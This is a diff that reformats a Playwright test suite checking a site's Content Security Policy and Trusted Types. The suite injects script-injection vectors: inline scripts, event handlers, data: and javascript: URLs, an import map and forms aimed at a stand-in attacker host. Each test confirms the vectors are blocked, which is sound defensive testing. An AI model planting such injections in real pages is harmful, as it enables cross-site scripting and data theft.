@@ -13,7 +13,12 @@ async function openWith(page: Page, html: string, inHead = ''): Promise<{ violat
   // Only what passes the policy comes as far as this; `request` events tell of what was stopped too.
   await page.route(`${EVIL}/**`, (route) => {
     out.push(route.request().url());
-    return route.fulfill({ status: 200, body: 'hacked = "from outside"', contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' } });
+    return route.fulfill({
+      status: 200,
+      body: 'hacked = "from outside"',
+      contentType: 'text/javascript',
+      headers: { 'access-control-allow-origin': '*' },
+    });
   });
   await page.route(`**${PAGE}`, async (route) => {
     const response = await route.fetch();
@@ -32,7 +37,10 @@ const INJECTED: Record<string, { html: string; directive?: string }> = {
   'an inline module': { html: '<script type="module">hacked = 1</script>', directive: 'script-src-elem' },
   'a script of another host': { html: `<script src="${EVIL}/x.js"></script>`, directive: 'script-src-elem' },
   'a script in its own address': { html: '<script src="data:text/javascript,hacked=1"></script>', directive: 'script-src-elem' },
-  'an import map': { html: '<script type="importmap">{"imports":{"/_astro/":"https://evil.example/"}}</script>', directive: 'script-src-elem' },
+  'an import map': {
+    html: '<script type="importmap">{"imports":{"/_astro/":"https://evil.example/"}}</script>',
+    directive: 'script-src-elem',
+  },
   'an inline handler': { html: '<img src="/nothing.png" onerror="hacked = 1">', directive: 'script-src-attr' },
   'a handler of a drawing': { html: '<svg onload="hacked = 1"></svg>', directive: 'script-src-attr' },
   'a script in a drawing': { html: '<svg><script>hacked = 1</script></svg>', directive: 'script-src-elem' },
@@ -69,7 +77,11 @@ test('a base element changes no address', async ({ page, baseURL }) => {
 });
 
 test('a form for another host is not sent, nor is one of the site turned there', async ({ page }) => {
-  const { violations, out } = await openWith(page, `<form action="${EVIL}/" method="post"><input name="x" value="1"><button id="steal">Gửi</button></form><form action="/tim-kiem/" id="own"></form><button id="turn" form="own" formaction="${EVIL}/">Gửi</button>`);
+  const { violations, out } = await openWith(
+    page,
+    `<form action="${EVIL}/" method="post"><input name="x" value="1"><button id="steal">Gửi</button></form><form ` +
+      `action="/tim-kiem/" id="own"></form><button id="turn" form="own" formaction="${EVIL}/">Gửi</button>`,
+  );
   // Pressed by the page: after its own press Playwright waits for the page that never comes.
   await page.evaluate(() => setTimeout(() => document.querySelectorAll<HTMLElement>('#steal, #turn').forEach((button) => button.click())));
   await expect.poll(() => violations.filter((violation) => violation.startsWith('form-action')).length).toBeGreaterThanOrEqual(2);
@@ -77,7 +89,11 @@ test('a form for another host is not sent, nor is one of the site turned there',
 });
 
 test('a link that is a script runs nothing', async ({ page, baseURL }) => {
-  const { violations } = await openWith(page, '<a id="link" href="javascript:hacked=1">x</a><a id="tab" href="javascript:opener.hacked=1" target="_blank">x</a><map name="m"><area shape="default" href="javascript:hacked=1"></map>');
+  const { violations } = await openWith(
+    page,
+    '<a id="link" href="javascript:hacked=1">x</a><a id="tab" href="javascript:opener.hacked=1" target="_blank">x</a><map ' +
+      'name="m"><area shape="default" href="javascript:hacked=1"></map>',
+  );
   for (const id of ['link', 'tab']) await page.locator(`#${id}`).click();
   await expect.poll(() => violations.join()).toContain('script-src-elem');
   expect(await hacked(page)).toBeUndefined();
@@ -136,8 +152,13 @@ test('there is one Trusted Types policy, and only the search makes it', async ({
   await page.goto('/tim-kiem/?q=đọc sách');
   await expect(page.locator('[data-part=results] > li').first()).toBeVisible();
   const answers = await page.evaluate(() => {
-    interface Policy { createScriptURL(address: string): unknown; createHTML(text: string): unknown }
-    const { trustedTypes } = window as unknown as { trustedTypes: { defaultPolicy: Policy | null; createPolicy(name: string, rules: object): Policy } };
+    interface Policy {
+      createScriptURL(address: string): unknown;
+      createHTML(text: string): unknown;
+    }
+    const { trustedTypes } = window as unknown as {
+      trustedTypes: { defaultPolicy: Policy | null; createPolicy(name: string, rules: object): Policy };
+    };
     const refuses = (act: () => unknown): boolean => {
       try {
         return !act();
@@ -146,13 +167,19 @@ test('there is one Trusted Types policy, and only the search makes it', async ({
       }
     };
     const policy = trustedTypes.defaultPolicy;
-    return { made: policy !== null, html: refuses(() => policy?.createHTML('<b>x</b>')), second: refuses(() => trustedTypes.createPolicy('default', {})) };
+    return {
+      made: policy !== null,
+      html: refuses(() => policy?.createHTML('<b>x</b>')),
+      second: refuses(() => trustedTypes.createPolicy('default', {})),
+    };
   });
   expect(answers).toEqual({ made: true, html: true, second: true });
 });
 
 test('no other site can show a page in a frame', async ({ page, baseURL }) => {
-  await page.route('http://other.example/', (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe><iframe src="${baseURL}/chuyen-de/"></iframe>` }));
+  await page.route('http://other.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe><iframe src="${baseURL}/chuyen-de/"></iframe>` }),
+  );
   await page.goto('http://other.example/');
   await expect.poll(() => page.frames().length).toBe(3);
   for (const frame of page.frames().slice(1)) await expect(frame.locator('h1, main')).toHaveCount(0);
